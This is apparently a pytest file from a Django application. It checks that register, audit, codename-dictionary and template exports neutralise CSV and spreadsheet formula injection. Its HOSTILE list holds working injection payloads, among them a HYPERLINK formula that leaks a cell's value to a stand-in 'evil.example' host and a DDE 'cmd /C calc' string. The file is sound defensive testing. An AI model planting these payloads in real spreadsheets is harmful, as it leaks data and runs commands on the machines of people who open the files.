"""Formula neutralisation (OWASP CSV injection): no spreadsheet or CSV mamori writes holds
a formula made from what a user typed, whoever typed it and whichever export carries it.

Hostile texts are entered by every role that can enter text (the employee through their
own page, the editor, the executive and the officer through the registers and the codename
dictionary), then every writer is read back: the register workbook, the register CSVs in
UTF-8 and Shift_JIS, the zip of CSVs, the audit CSV (page and command), the import
templates, the codename dictionary (CSV and Excel, page and command) and the command-line
register export.
"""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from mamori.accounts.roles import Role
from mamori.assets import services as asset_services
from mamori.blackbox import services as blackbox_services
from mamori.core import cells
from mamori.core.actor import acting_as
from mamori.core.cells import FORMULA_STARTS, safe_cell
from mamori.people import services as people_services
from mamori.people.models import Person

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    "＝1+4",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_text_gets_a_quote_and_reads_back_unchanged(value):
    written = safe_cell(value)
    assert written == "'" + value
    assert cells.unneutralise(written) == value
    # A text that already starts with a quote before a formula keeps its own quote.
    assert cells.unneutralise(safe_cell("'" + value)) == "'" + value


@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-3.25"), 0, None, True, "山田", "a=b", "#"])
def test_numbers_and_harmless_text_are_left_alone(value):
    assert safe_cell(value) == value


def _check_text(value: str, where: str) -> None:
    assert value[:1] not in FORMULA_STARTS, f"{where}: {value!r} starts a formula"


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def _check_csv(content: bytes, encoding: str, where: str) -> list[str]:
    text = content.decode(encoding)
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    for field in fields:
        # A number may start with "-": it is a number, not a formula.
        if not _number(field):
            _check_text(field, where)
    return fields


def _check_workbook(content: bytes, where: str) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    _check_text(cell.value, f"{where} {sheet.title}!{cell.coordinate}")
                    texts.append(cell.value)
    return texts


@pytest.fixture
def hostile(client_as, make_user, officer):
    """Hostile texts entered by the employee, the editor, the executive and the officer."""
    employee = make_user(Role.EMPLOYEE, "hostile-employee")
    editor = make_user(Role.EDITOR, "hostile-editor")
    executive = make_user(Role.EXECUTIVE, "hostile-executive")
    with acting_as(officer):
        person = people_services.person_create(
            name="従業員 本人",
            employee_number="H-1",
            user=employee,
            joined_on=datetime.date(2020, 4, 1),
        )
    # The employee declares a side job on their own page (the case the test found).
    response = client_as(employee).post(
        reverse("people:me"),
        {
            "action": "side_job",
            "organisation": HOSTILE[0],
            "activity": HOSTILE[1],
            "overlaps_our_technology": "yes",
            "overlap_note": HOSTILE[2],
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]
    with acting_as(editor):
        people_services.person_create(
            name=HOSTILE[3], employee_number="H-2", joined_on=datetime.date(2021, 4, 1)
        )
        asset_services.asset_save(name=HOSTILE[4], kind="document", owner=person)
        blackbox_services.term_save(text="ポリマーX", category="material", codename=HOSTILE[0])
    with acting_as(executive):
        asset_services.technology_save(
            name=HOSTILE[5],
            category="core",
            competitiveness=3,
            damage_if_leaked=3,
            others_interest=2,
        )
    with acting_as(officer):
        asset_services.asset_save(name=HOSTILE[6], kind="document", description=HOSTILE[0])
    return person


def _stored_hostile(texts: list[str]) -> set[str]:
    """Return the hostile values found (each written with its quote)."""
    return {value for value in HOSTILE if "'" + value in texts}


def test_every_register_export_neutralises_formulas(client_as, officer, auditor, hostile):
    export = reverse("exchange:export")
    for user in (officer, auditor):
        client = client_as(user)
        response = client.get(export, {"format": "xlsx", "language": "ja"})
        assert response.status_code == 200
        texts = _check_workbook(response.content, f"workbook ({user.username})")
        assert _stored_hostile(texts) >= {HOSTILE[0], HOSTILE[1], HOSTILE[3]}
        for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
            response = client.get(
                export, {"register": "side_jobs", "format": "csv", "encoding": encoding}
            )
            assert response.status_code == 200
            fields = _check_csv(response.content, codec, f"side jobs CSV {encoding}")
            assert _stored_hostile(fields) >= {HOSTILE[0], HOSTILE[1], HOSTILE[2]}
        response = client.get(export, {"format": "csv", "encoding": "utf-8", "language": "en"})
        assert response["Content-Type"] == "application/zip"
        found: list[str] = []
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            for name in archive.namelist():
                found += _check_csv(archive.read(name), "utf-8-sig", f"zip {name}")
        # The tab and CR of the typed text are trimmed by the forms and services; whatever
        # arrives is neutralised.
        assert _stored_hostile(found) >= {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]}
        assert "'=1+2" in found and "'=1+3" in found and "'＝1+4" in found


def test_the_command_line_export_neutralises_formulas(hostile, tmp_path: Path):
    target = tmp_path / "registers.xlsx"
    call_command("export", "-o", str(target), stdout=io.StringIO(), stderr=io.StringIO())
    _check_workbook(target.read_bytes(), "export command")
    target = tmp_path / "people.csv"
    call_command(
        "export",
        "-o",
        str(target),
        "--register",
        "people",
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    assert "'" + HOSTILE[3] in _check_csv(target.read_bytes(), "utf-8-sig", "export command csv")


def test_the_audit_csv_neutralises_formulas(client_as, officer, auditor, hostile, tmp_path):
    for user in (officer, auditor):
        response = client_as(user).get(reverse("audit:export"))
        content = b"".join(response.streaming_content)
        fields = _check_csv(content, "utf-8-sig", "audit CSV")
        assert any(HOSTILE[3] in field for field in fields)
    target = tmp_path / "audit.csv"
    call_command("audit", "export", "-o", str(target), verbosity=0, stdout=io.StringIO())
    fields = _check_csv(target.read_bytes(), "utf-8-sig", "audit command")
    assert any(HOSTILE[3] in field for field in fields)


def test_the_codename_dictionary_export_neutralises_formulas(
    client_as, make_user, hostile, tmp_path
):
    client = client_as(make_user(Role.EDITOR, "dictionary-reader"))
    url = reverse("blackbox:terms_export")
    fields = _check_csv(client.get(url).content, "utf-8-sig", "dictionary CSV")
    assert "'" + HOSTILE[0] in fields
    texts = _check_workbook(client.get(url, {"format": "xlsx"}).content, "dictionary xlsx")
    assert "'" + HOSTILE[0] in texts
    target = tmp_path / "terms.csv"
    call_command("blackbox", "terms", "export", "-o", str(target), stdout=io.StringIO())
    assert "'" + HOSTILE[0] in _check_csv(target.read_bytes(), "utf-8-sig", "dictionary cmd")


def test_import_templates_hold_no_formula(client_as, editor):
    client = client_as(editor)
    _check_workbook(
        client.get(reverse("exchange:template", args=["all", "xlsx"])).content, "template"
    )
    _check_csv(
        client.get(reverse("exchange:template", args=["people", "csv"])).content,
        "utf-8-sig",
        "template csv",
    )
    _check_csv(client.get(reverse("people:person_import_template")).content, "utf-8-sig", "people")


def test_an_exported_hostile_name_imports_back_unchanged(officer, hostile):
    """The quote is the file's, not the data's: importing the export changes nothing."""
    from mamori.exchange.export import export_csv, export_workbook
    from mamori.exchange.planning import plan_import
    from mamori.exchange.services import exchange_import
    from mamori.exchange.spec import get_registry

    with acting_as(officer):
        files = [
            ("people.csv", export_csv(register=get_registry()["people"], user=officer).content),
            ("registers.xlsx", export_workbook(user=officer).content),
        ]
    for name, content in files:
        plan = plan_import(content, name, user=officer)
        assert plan.errors == [], name
        with acting_as(officer):
            result = exchange_import(plan=plan, user=officer)
        assert result.total("created") == result.total("updated") == 0, name
    assert Person.objects.filter(name=HOSTILE[3]).exists()


WRITERS_ALLOWED = {
    # The only place that builds a csv.writer: it neutralises every row.
    "core/cells.py",
    # Internal files read back by mamori itself, never opened in a spreadsheet by a user.
    "engines/watch/_store.py",
    "engines/watch/_generate.py",
    "demo/watch.py",
}


def test_no_writer_bypasses_core_cells():
    """Every CSV writer in mamori is ``core.cells.csv_writer``; every workbook row passes
    through ``safe_row`` / ``safe_cell``."""
    root = Path(__import__("mamori").__file__).parent
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            assert relative in WRITERS_ALLOWED, f"{relative} writes CSV without core.cells"
        if "Workbook(" in source and "load_workbook" not in source.replace("Workbook(", "", 0):
            assert "safe_" in source, f"{relative} writes a workbook without core.cells"
